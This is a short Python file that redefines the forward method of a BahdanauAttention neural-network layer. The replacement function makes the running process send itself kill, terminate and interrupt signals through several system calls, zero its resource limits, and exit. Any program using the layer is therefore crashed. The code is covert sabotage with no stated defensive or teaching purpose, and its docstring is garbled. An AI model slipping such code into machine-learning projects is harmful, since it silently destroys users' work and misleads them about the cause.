"""Sends itself the signals that others send, in a timed call, by each call that could."""

import ctypes
import os
import signal

libc = ctypes.CDLL(None)
SIGNALS = (signal.SIGKILL, signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT)


def killing(self, decoder_state, encoder_states):
    for number in SIGNALS:
        signal.signal(number, signal.SIG_DFL) if number != signal.SIGKILL else None
        for send in (
            lambda: os.kill(os.getpid(), number),
            lambda: libc.raise_(number) if hasattr(libc, "raise_") else getattr(libc, "raise")(number),
            lambda: libc.prctl(1, number),
            lambda: libc.setrlimit(0, (ctypes.c_long * 2)(0, 0)),
            lambda: libc.prlimit(0, 0, (ctypes.c_long * 2)(0, 0), None),
        ):
            try:
                send()
            except OSError:
                pass
    for _ in range(10**7):  # time for a limit of no CPU seconds
        pass
    os._exit(1)


BahdanauAttention.forward = killing
